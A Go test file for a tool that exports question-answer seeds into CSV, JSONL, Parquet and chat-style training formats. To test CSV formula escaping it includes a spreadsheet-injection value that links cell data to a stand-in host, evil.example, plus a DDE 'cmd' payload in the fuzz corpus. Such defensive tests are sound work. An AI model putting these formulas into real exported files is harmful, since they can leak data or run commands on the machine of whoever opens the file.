package export_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"iter"
	"math/rand/v2"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"seedbed/extract"
	"seedbed/internal/export"
	"seedbed/internal/seedbed"
)

var update = flag.Bool("update", false, "write the goldens anew")

// samples are a full seed, a bare one and a nasty one.
func samples() []extract.Seed {
	twin := "0f0f"
	return []extract.Seed{
		{
			ID: "a1b2", Question: "Why is \\(\\sqrt{2}\\) irrational?", Answer: "Suppose it were p/q in lowest terms.\nThen p² = 2q², so both are even: a contradiction.",
			ShortAnswer: "It leads to a contradiction.", Reasoning: []string{"Suppose √2 = p/q in lowest terms.", "Then p² = 2q², so p is even.", "So q is even too."},
			Origin: extract.Derived, Type: extract.Proof, Language: "en",
			Difficulty: extract.Difficulty{Estimated: 6, Votes: []int{5, 2, 1}, Agreement: 0.625},
			Evidence: []extract.Evidence{
				{Quote: "both are even", File: "book/ch2.md", Page: 4, Lines: [2]int{10, 14}, Start: 1234, End: 1247, Match: extract.MatchExact},
				{Quote: "p² = 2q²", Start: 1210, End: 1218, Match: extract.MatchNormalized},
			},
			Source:  extract.SourceRef{ID: "s1", SHA256: "5e5e", Title: "A Course, with Exercises", Kind: extract.Book, Section: []string{"Ch 2", "2.1"}, License: "CC-BY-4.0"},
			Passage: "9a9a", Checks: []extract.Check{{Name: "ground", Verdict: extract.Pass, Score: 1, Version: "1"}},
			Verdict: extract.Accepted, Tags: []string{"algebra", "number theory"}, Run: "r1", Recipe: "quick@abc", Model: "m-1",
			Tokens: extract.Tokens{In: 900, Out: 120}, Created: time.Date(2026, 2, 3, 4, 5, 6, 0, time.UTC),
		},
		{ID: "c3", Question: "What is 机器学习?", Answer: "A field."},
		{
			ID: "d4", Question: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", Answer: "-1 <b>&amp;</b> \"quoted\", 'single'\r\nand a tab\t; \u2028 end",
			ShortAnswer: "'=1", Reasoning: []string{"It says </think> here.", "@SUM(1+1)"}, DuplicateOf: &twin,
			Source: extract.SourceRef{Title: "+Title"}, Verdict: extract.Rejected, VerdictReason: "dedupe: twin", Tags: []string{"\tx"},
		},
	}
}

func each(seeds []extract.Seed) iter.Seq2[extract.Seed, error] {
	return func(yield func(extract.Seed, error) bool) {
		for _, s := range seeds {
			if !yield(s, nil) {
				return
			}
		}
	}
}

// parented are seeds that each replaced a worse one.
func parented(seeds []extract.Seed) []extract.Seed {
	worse := "worse"
	for i := range seeds {
		seeds[i].Question, seeds[i].Parent = seeds[0].Question, &worse
	}
	return seeds
}

func write(t *testing.T, format string, seeds []extract.Seed, opts seedbed.ExportOptions) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := exportTo(t.Context(), &b, each(seeds), with(opts, format)); err != nil {
		t.Fatalf("Write(%s): %v", format, err)
	}
	return b.Bytes()
}

var full = seedbed.ExportOptions{Reasoning: true, System: "Answer like a careful teacher."}

func TestGoldens(t *testing.T) {
	for _, f := range export.Formats {
		for name, test := range map[string]struct {
			seeds []extract.Seed
			opts  seedbed.ExportOptions
		}{
			"plain": {samples(), seedbed.ExportOptions{}},
			"full":  {samples(), full},
			"empty": {nil, full},
		} {
			t.Run(f.Name+" "+name, func(t *testing.T) {
				got := write(t, f.Name, test.seeds, test.opts)
				golden := filepath.Join("testdata", f.Name+"-"+name+f.Extension)
				if f.Binary {
					got, golden = shown(t, got), filepath.Join("testdata", f.Name+"-"+name+".txt")
				}
				if *update {
					if err := os.WriteFile(golden, got, 0o644); err != nil {
						t.Fatal(err)
					}
				}
				want, err := os.ReadFile(golden)
				if err != nil {
					t.Fatal(err)
				}
				if diff := cmp.Diff(string(want), string(got)); diff != "" {
					t.Errorf("%s differs (-want +got):\n%s", golden, diff)
				}
			})
		}
	}
}

// lines decodes JSON Lines.
func lines[T any](t *testing.T, data []byte) []T {
	t.Helper()
	var out []T
	for l := range bytes.Lines(data) {
		if !bytes.HasSuffix(l, []byte("\n")) {
			t.Errorf("the line %.40q has no end", l)
		}
		var v T
		if err := json.Unmarshal(l, &v); err != nil {
			t.Fatalf("line %.60q: %v", l, err)
		}
		out = append(out, v)
	}
	return out
}

func TestSeedbedRoundTrip(t *testing.T) {
	data := write(t, "seedbed", samples(), seedbed.ExportOptions{})
	if diff := cmp.Diff(samples(), lines[extract.Seed](t, data), cmpopts.EquateEmpty()); diff != "" {
		t.Errorf("seeds differ after reading them back (-want +got):\n%s", diff)
	}
	// Every row has the same keys, and a list is a list in all of them.
	rows := lines[map[string]any](t, data)
	want := []string{
		"answer", "checks", "created", "difficulty", "duplicate_of", "evidence", "id", "language", "model", "origin", "parent", "passage", "question",
		"reasoning", "recipe", "run", "short_answer", "source", "tags", "tokens", "type", "verdict", "verdict_reason",
	}
	for _, r := range rows {
		var keys []string
		for k := range r {
			keys = append(keys, k)
		}
		slices.Sort(keys)
		if diff := cmp.Diff(want, keys); diff != "" {
			t.Errorf("keys differ (-want +got):\n%s", diff)
		}
		for _, k := range []string{"reasoning", "evidence", "checks", "tags"} {
			if _, ok := r[k].([]any); !ok {
				t.Errorf("%s of %v is %v, want a list", k, r["id"], r[k])
			}
		}
	}
}

const thought = "<think>\nSuppose √2 = p/q in lowest terms.\nThen p² = 2q², so p is even.\nSo q is even too.\n</think>\n\n"

func TestMessages(t *testing.T) {
	type chat struct {
		Messages []extract.Message `json:"messages"`
	}
	s := samples()
	got := lines[chat](t, write(t, "messages", s, full))
	want := chat{[]extract.Message{
		{Role: "system", Content: full.System}, {Role: "user", Content: s[0].Question}, {Role: "assistant", Content: thought + s[0].Answer},
	}}
	if diff := cmp.Diff(want, got[0]); diff != "" {
		t.Errorf("the first chat differs (-want +got):\n%s", diff)
	}
	if got := got[1].Messages[2].Content; got != s[1].Answer {
		t.Errorf("a seed without steps answers %q, want %q", got, s[1].Answer)
	}
	if got := got[2].Messages[2].Content; strings.Count(got, "</think>") != 1 || !strings.HasSuffix(got, "</think>\n\n"+s[2].Answer) {
		t.Errorf("a step with a tag in it gives %q, want one end of thinking", got)
	}
	plain := lines[chat](t, write(t, "messages", s, seedbed.ExportOptions{}))
	want = chat{[]extract.Message{{Role: "user", Content: s[0].Question}, {Role: "assistant", Content: s[0].Answer}}}
	if diff := cmp.Diff(want, plain[0]); diff != "" {
		t.Errorf("the first plain chat differs (-want +got):\n%s", diff)
	}
}

func TestPromptCompletion(t *testing.T) {
	type example struct {
		Prompt     []extract.Message `json:"prompt"`
		Completion []extract.Message `json:"completion"`
	}
	s := samples()
	got := lines[example](t, write(t, "prompt-completion", s, full))
	want := example{
		Prompt:     []extract.Message{{Role: "system", Content: full.System}, {Role: "user", Content: s[0].Question}},
		Completion: []extract.Message{{Role: "assistant", Content: thought + s[0].Answer}},
	}
	if diff := cmp.Diff(want, got[0]); diff != "" || len(got) != len(s) {
		t.Errorf("%d examples, the first differs (-want +got):\n%s", len(got), diff)
	}
}

func array[T any](t *testing.T, data []byte) []T {
	t.Helper()
	var out []T
	if err := json.Unmarshal(data, &out); err != nil {
		t.Fatalf("%.80q: %v", data, err)
	}
	if out == nil {
		t.Errorf("%q is no array", data)
	}
	return out
}

func TestAlpaca(t *testing.T) {
	s := samples()
	got := array[map[string]string](t, write(t, "alpaca", s, full))
	want := map[string]string{"instruction": s[0].Question, "input": "", "output": thought + s[0].Answer, "system": full.System}
	if diff := cmp.Diff(want, got[0]); diff != "" || len(got) != len(s) {
		t.Errorf("%d examples, the first differs (-want +got):\n%s", len(got), diff)
	}
	if _, ok := array[map[string]string](t, write(t, "alpaca", s, seedbed.ExportOptions{}))[0]["system"]; ok {
		t.Error("without a system prompt there is a key for it")
	}
}

func TestShareGPT(t *testing.T) {
	type turn struct{ From, Value string }
	s := samples()
	got := array[map[string][]turn](t, write(t, "sharegpt", s, full))
	want := map[string][]turn{"conversations": {{"system", full.System}, {"human", s[0].Question}, {"gpt", thought + s[0].Answer}}}
	if diff := cmp.Diff(want, got[0]); diff != "" || len(got) != len(s) {
		t.Errorf("%d examples, the first differs (-want +got):\n%s", len(got), diff)
	}
}

func TestEmptyFilesAreValid(t *testing.T) {
	for _, f := range export.Formats {
		data := write(t, f.Name, nil, seedbed.ExportOptions{})
		switch f.Extension {
		case ".jsonl":
			if len(data) > 0 {
				t.Errorf("%s without seeds is %q, want nothing", f.Name, data)
			}
		case ".json":
			if f.Name == "squad" {
				data = []byte(squad(t, data).Data)
			}
			if got := array[any](t, data); len(got) > 0 {
				t.Errorf("%s without seeds is %q, want an empty array", f.Name, data)
			}
		case ".csv":
			if rows := table(t, data); len(rows) != 0 {
				t.Errorf("%s without seeds has %d rows", f.Name, len(rows))
			}
		case ".parquet":
			if n := parquetFile(t, data).NumRows(); n != 0 {
				t.Errorf("%s without seeds has %d rows", f.Name, n)
			}
		case ".zip":
			files, m := unzip(t, data)
			if n := parquetFile(t, files["data/train-00000.parquet"]).NumRows(); n != 0 || m.Seeds != 0 || len(m.Files) != 1 {
				t.Errorf("%s without seeds has %d rows, and the manifest %+v", f.Name, n, m)
			}
		default:
			t.Errorf("%s has the extension %s", f.Name, f.Extension)
		}
	}
}

// table reads CSV into rows by column.
func table(t *testing.T, data []byte) []map[string]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(data))
	head, err := r.Read()
	if err != nil {
		t.Fatalf("header: %v", err)
	}
	var out []map[string]string
	for {
		cells, err := r.Read()
		if errors.Is(err, io.EOF) {
			return out
		}
		if err != nil {
			t.Fatalf("row %d: %v", len(out)+1, err)
		}
		row := map[string]string{}
		for i, c := range cells {
			row[head[i]] = c
		}
		out = append(out, row)
	}
}

// original undoes what keeps a cell from being a formula, as docs/exports.md
// says it can be undone.
func original(cell string) string {
	if strings.HasPrefix(cell, "'") && strings.ContainsAny(first(strings.TrimLeft(cell, "'")), "=+-@\t\r\n＝＋－＠") {
		return cell[1:]
	}
	return cell
}

func first(s string) string {
	for _, r := range s {
		return string(r)
	}
	return ""
}

func TestCSV(t *testing.T) {
	s := samples()
	rows := table(t, write(t, "csv", s, full))
	if len(rows) != len(s) {
		t.Fatalf("%d rows, want %d", len(rows), len(s))
	}
	want := map[string]string{
		"id": "a1b2", "question": s[0].Question, "answer": s[0].Answer, "short_answer": s[0].ShortAnswer, "reasoning": strings.Join(s[0].Reasoning, "\n"),
		"type": "proof", "origin": "derived", "language": "en", "difficulty": "6",
		"evidence":    "both are even\n\np² = 2q²",
		"evidence_at": "book/ch2.md, page 4, lines 10–14, characters 1234–1247\ncharacters 1210–1218",
		"source":      "s1", "source_title": "A Course, with Exercises", "section": "Ch 2 › 2.1", "license": "CC-BY-4.0",
		"verdict": "accepted", "verdict_reason": "", "tags": "algebra; number theory", "recipe": "quick@abc", "model": "m-1", "run": "r1", "created": "2026-02-03T04:05:06Z",
	}
	if diff := cmp.Diff(want, rows[0]); diff != "" {
		t.Errorf("the first row differs (-want +got):\n%s", diff)
	}
	for column, want := range map[string]string{"question": "'" + s[2].Question, "short_answer": "''=1", "source_title": "'+Title", "tags": "'\tx", "verdict_reason": "dedupe: twin"} {
		if got := rows[2][column]; got != want {
			t.Errorf("%s of the nasty seed is %q, want %q", column, got, want)
		}
	}
}

func TestCSVLines(t *testing.T) {
	for lines, want := range map[[2]int]string{
		{24, 24}: "line 24, characters 5–9",
		{24, 25}: "lines 24–25, characters 5–9",
		{}:       "characters 5–9",
	} {
		s := extract.Seed{ID: "x", Evidence: []extract.Evidence{{Quote: "four", Lines: lines, Start: 5, End: 9}}}
		if got := table(t, write(t, "csv", []extract.Seed{s}, full))[0]["evidence_at"]; got != want {
			t.Errorf("a quote in lines %v stands at %q, want %q", lines, got, want)
		}
	}
}

func FuzzCSV(f *testing.F) {
	for _, s := range []string{"", " ", "a", `"`, `""`, "a,b", "a;b", "a\nb", "a\r\nb", "\r", "\n", "=1+1", "+1", "-1", "@x", "\t=1", "'=1", "''=", "'", "＝1", "\x00=1", "\xff", "\ufeff", "\\", `=cmd|' /C calc'!A0`} {
		f.Add(s, "second")
	}
	f.Fuzz(func(t *testing.T, question, reason string) {
		s := extract.Seed{ID: "x", Question: question, VerdictReason: reason}
		data := write(t, "csv", []extract.Seed{s}, seedbed.ExportOptions{})
		rows := table(t, data)
		if len(rows) != 1 {
			t.Fatalf("%q makes %d rows", data, len(rows))
		}
		for column, text := range map[string]string{"question": question, "verdict_reason": reason} {
			cell := rows[0][column]
			if c := first(cell); c != "" && strings.Contains("=+-@\t\r\n＝＋－＠", c) {
				t.Errorf("the cell %q can be a formula", cell)
			}
			// Readers in Go make CR LF in a cell LF.
			want := strings.ReplaceAll(strings.ToValidUTF8(strings.ReplaceAll(text, "\x00", ""), "\uFFFD"), "\r\n", "\n")
			if got := original(cell); got != want {
				t.Errorf("%s %q is read back as %q", column, want, got)
			}
		}
		if bytes.Contains(data, []byte{0}) || !bytes.HasSuffix(data, []byte("\r\n")) {
			t.Errorf("%q has a NUL or no end of line", data)
		}
	})
}

func TestUnknownFormat(t *testing.T) {
	err := exportTo(t.Context(), io.Discard, each(samples()), seedbed.ExportOptions{Format: "parchment"})
	if e := (*seedbed.Error)(nil); !errors.As(err, &e) || e.Code != seedbed.Invalid {
		t.Fatalf("Write(parchment): %v, want an invalid error", err)
	}
	for _, f := range export.Formats {
		if !strings.Contains(err.Error(), f.Name) {
			t.Errorf("%q does not name %s", err, f.Name)
		}
	}
}

func TestFormatsAreDescribed(t *testing.T) {
	seen := map[string]bool{}
	for _, f := range export.Formats {
		v := reflect.ValueOf(f)
		for i := range v.NumField() {
			if v.Field(i).Kind() == reflect.String && v.Field(i).IsZero() {
				t.Errorf("%s has no %s", f.Name, v.Type().Field(i).Name)
			}
		}
		if seen[f.Name] || !strings.HasPrefix(f.Extension, ".") {
			t.Errorf("%+v is there twice or has no extension", f)
		}
		seen[f.Name] = true
	}
}

func TestErrorsMidwayAreSeen(t *testing.T) {
	broken := errors.New("the database went away")
	failing := func(yield func(extract.Seed, error) bool) {
		for _, s := range samples() {
			if !yield(s, nil) {
				return
			}
		}
		yield(extract.Seed{}, broken)
	}
	split, err := seedbed.ParseSplit("a:0.5,b:0.5")
	if err != nil {
		t.Fatal(err)
	}
	// The sources can be counted, and reading their seeds fails.
	for _, part := range [][]seedbed.Part{nil, split} {
		src := &once{source{seeds: each(samples())}, broken}
		var b bytes.Buffer
		if _, err := (&export.Exporter{Seeds: src}).Export(t.Context(), &b, seedbed.ExportOptions{Split: part}, seedbed.Filter{}); !errors.Is(err, broken) {
			t.Errorf("Export(%v) = %v, want %v", part, err, broken)
		}
		if _, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len())); err == nil {
			t.Error("an archive that broke off can be opened")
		}
	}
	for _, f := range export.Formats {
		var b bytes.Buffer
		if err := exportTo(t.Context(), &b, failing, seedbed.ExportOptions{Format: f.Name}); !errors.Is(err, broken) {
			t.Errorf("Write(%s) = %v, want %v", f.Name, err, broken)
		}
		if f.Extension == ".json" && json.Valid(b.Bytes()) && b.Len() > 0 {
			t.Errorf("%s after an error is %q: it looks whole", f.Name, b.Bytes())
		}
		if err := exportTo(t.Context(), brokenPipe{}, each(parented(samples())), seedbed.ExportOptions{Format: f.Name}); !errors.Is(err, io.ErrClosedPipe) {
			t.Errorf("Write(%s) to a broken pipe = %v, want %v", f.Name, err, io.ErrClosedPipe)
		}
		ctx, cancel := context.WithCancel(t.Context())
		cancelling := func(yield func(extract.Seed, error) bool) {
			for {
				if !yield(extract.Seed{}, nil) {
					return
				}
				cancel()
			}
		}
		if err := exportTo(ctx, io.Discard, cancelling, seedbed.ExportOptions{Format: f.Name}); !errors.Is(err, context.Canceled) {
			t.Errorf("Write(%s) when cancelled = %v, want %v", f.Name, err, context.Canceled)
		}
	}
}

// once fails after a seed of each.
type once struct {
	source
	err error
}

func (o *once) Each(ctx context.Context, f seedbed.Filter, do func(extract.Seed) error) error {
	return errors.Join(o.source.Each(ctx, f, do), o.err)
}

type brokenPipe struct{}

func (brokenPipe) Write([]byte) (int, error) { return 0, io.ErrClosedPipe }

// What was asked for is written while more is asked for.
func TestWriteStreams(t *testing.T) {
	for _, f := range export.Formats {
		var written counter
		made, most, n := 0, 0, 1000
		if f.Binary {
			n = 40_000
		}
		seeds := func(yield func(extract.Seed, error) bool) {
			worse := "worse"
			random := rand.New(rand.NewPCG(1, 2)) // what can be compressed would seem to be kept back
			for range n {
				text := make([]byte, 1000)
				for i := range text {
					text[i] = byte(' ' + random.IntN(95))
				}
				s := extract.Seed{ID: fmt.Sprint(made), Question: "Why?", Answer: string(text), Parent: &worse}
				made += 1000
				if !yield(s, nil) {
					return
				}
				most = max(most, made-int(written))
			}
		}
		if err := exportTo(t.Context(), &written, seeds, seedbed.ExportOptions{Format: f.Name}); err != nil {
			t.Fatal(err)
		}
		limit := 100_000
		switch {
		case f.Name == "squad" || f.Name == "preference": // some are looked up at once
			limit = 200_000
		case f.Binary: // a group of rows
			limit = 12 << 20
		}
		if most > limit {
			t.Errorf("%s keeps up to %d bytes back", f.Name, most)
		}
	}
}

type counter int

func (c *counter) Write(p []byte) (int, error) {
	*c += counter(len(p))
	return len(p), nil
}

// source gives its seeds, then its error.
type source struct {
	seeds    iter.Seq2[extract.Seed, error]
	filter   seedbed.Filter    // of the last time
	passages map[string]string // by the seeds' ids; a seed's answer where there is none
	rejected map[string]extract.Seed
	seen     map[string]extract.Seed
}

func (s *source) PassageTexts(_ context.Context, seeds []string) (map[string]string, error) {
	out := map[string]string{}
	for _, id := range seeds {
		out[id] = s.seen[id].Answer
		if text, ok := s.passages[id]; ok {
			out[id] = text
		}
	}
	return out, nil
}

// SeedsByID are the rejected seeds, and for any seed with the parent "worse"
// one that is.
func (s *source) SeedsByID(_ context.Context, ids []string) (map[string]extract.Seed, error) {
	out := map[string]extract.Seed{}
	for _, id := range ids {
		if r, ok := s.rejected[id]; ok {
			out[id] = r
		} else if id == "worse" {
			out[id] = extract.Seed{Question: s.seen["parented"].Question, Answer: "worse", Verdict: extract.Rejected}
		}
	}
	return out, nil
}

func (s *source) Each(_ context.Context, f seedbed.Filter, do func(extract.Seed) error) error {
	s.filter = f
	for seed, err := range s.seeds {
		if err != nil {
			return err
		}
		if f.Source != nil && !slices.Contains(f.Source, seed.Source.ID) {
			continue
		}
		if s.seen == nil {
			s.seen = map[string]extract.Seed{}
		}
		s.seen[seed.ID] = seed
		if seed.Parent != nil {
			s.seen["parented"] = seed
		}
		if err := do(seed); err != nil {
			return err
		}
	}
	return nil
}

func (s *source) CountBySource(ctx context.Context, f seedbed.Filter) ([]seedbed.SourceCount, error) {
	var out []seedbed.SourceCount
	err := s.Each(ctx, f, func(seed extract.Seed) error {
		i := slices.IndexFunc(out, func(c seedbed.SourceCount) bool { return c.ID == seed.Source.ID })
		if i < 0 {
			i = len(out)
			out = append(out, seedbed.SourceCount{ID: seed.Source.ID, SHA256: seed.Source.SHA256})
		}
		out[i].Seeds++
		return nil
	})
	return out, err
}

// exportTo exports seeds without looking at what is accepted.
func exportTo(ctx context.Context, w io.Writer, seeds iter.Seq2[extract.Seed, error], o seedbed.ExportOptions) error {
	_, err := (&export.Exporter{Seeds: &source{seeds: seeds}}).Export(ctx, w, o, seedbed.Filter{})
	return err
}

func TestExporter(t *testing.T) {
	src := &source{seeds: each(samples())}
	e := &export.Exporter{Seeds: src}
	var b bytes.Buffer
	if _, err := e.Export(t.Context(), &b, seedbed.ExportOptions{Format: "seedbed"}, seedbed.Filter{Tag: []string{"x"}}); err != nil {
		t.Fatal(err)
	}
	if got := len(lines[extract.Seed](t, b.Bytes())); got != 3 {
		t.Errorf("%d seeds were exported, want 3", got)
	}
	want := seedbed.Filter{Tag: []string{"x"}, Verdict: []string{extract.Accepted}}
	if diff := cmp.Diff(want, src.filter); diff != "" {
		t.Errorf("the filter differs (-want +got):\n%s", diff)
	}
	every := seedbed.Filter{Verdict: []string{extract.Draft, extract.Rejected}}
	if _, err := e.Export(t.Context(), io.Discard, seedbed.ExportOptions{Format: "csv"}, every); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(every, src.filter); diff != "" {
		t.Errorf("the filter differs (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(export.Formats, e.Formats()); diff != "" {
		t.Errorf("Formats differs (-want +got):\n%s", diff)
	}
}

func BenchmarkExport(b *testing.B) {
	for _, f := range export.Formats {
		b.Run(f.Name, func(b *testing.B) {
			s := samples()
			for b.Loop() {
				var n counter
				if err := exportTo(b.Context(), &n, each(s), with(full, f.Name)); err != nil {
					b.Fatal(err)
				}
				b.SetBytes(int64(n))
			}
		})
	}
}

func ExampleExporter() {
	seeds := func(yield func(extract.Seed, error) bool) {
		yield(extract.Seed{Question: "What is 2 + 2?", Answer: "4", Reasoning: []string{"Add two and two."}}, nil)
	}
	ctx := context.Background()
	for _, opts := range []seedbed.ExportOptions{{}, {Reasoning: true, System: "Be brief."}} {
		if err := exportTo(ctx, os.Stdout, seeds, with(opts, "messages")); err != nil {
			panic(err)
		}
	}
	fmt.Println(exportTo(ctx, os.Stdout, seeds, seedbed.ExportOptions{Format: "xml"}))
	// Output:
	// {"messages":[{"role":"user","content":"What is 2 + 2?"},{"role":"assistant","content":"4"}]}
	// {"messages":[{"role":"system","content":"Be brief."},{"role":"user","content":"What is 2 + 2?"},{"role":"assistant","content":"<think>\nAdd two and two.\n</think>\n\n4"}]}
	// there is no format "xml": choose seedbed, messages, prompt-completion, alpaca, sharegpt, csv, squad, preference, parquet, huggingface
}

// with is o in another format.
func with(o seedbed.ExportOptions, format string) seedbed.ExportOptions {
	o.Format = format
	return o
}
